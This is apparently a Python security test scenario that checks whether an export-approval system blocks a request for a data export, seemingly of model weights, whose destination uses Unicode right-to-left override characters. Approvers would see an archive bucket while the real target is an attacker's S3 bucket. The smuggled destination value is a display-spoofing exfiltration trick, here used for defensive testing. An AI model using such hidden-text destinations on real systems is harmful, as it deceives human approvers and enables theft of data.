"""Theft: have approvers sign an export to a place that their screens do not show."""

from __future__ import annotations

from weighthouse.assurance.model import Expected, Observed, Trace
from weighthouse.assurance.ports import Ground, Scenario
from weighthouse.assurance.scenarios import honest
from weighthouse.core.errors import WeighthouseError

CODE = "access.operation_hides"
SHOWN_AS_ARCHIVE = "s3://attacker/\u202e\u2066evihcra//:3s"
"""An attacker's bucket: what stands behind the override is painted from right to left, over what stands before."""


def attack(ground: Ground, _prepared: None) -> Observed:
    try:
        honest.ask(ground, "eve", "tern-export", version="ver_1", destination=SHOWN_AS_ARCHIVE)
    except WeighthouseError as refusal:
        return Observed(code=refusal.code, message=refusal.message)
    return Observed(loot="a request whose destination its approvers cannot see")


SCENARIO = Scenario(
    id="hidden-text",
    title="Have approvers sign what they cannot see",
    techniques=("T1036.002", "T1656"),
    people=("eve",),
    steps=(
        "On a copy, Eve asks for an export whose destination turns the writing round,",
        "so that its card would show another place than the one that is signed.",
    ),
    expected=Expected(
        status="BLOCKED",
        room="access",
        code=CODE,
        traces=(Trace("access.Denied", {"code": CODE, "principal": "eve", "action": "request.submit"}),),
        absent=(Trace("access.RequestSubmitted", {}),),
    ),
    attack=attack,
    on="copy",
)
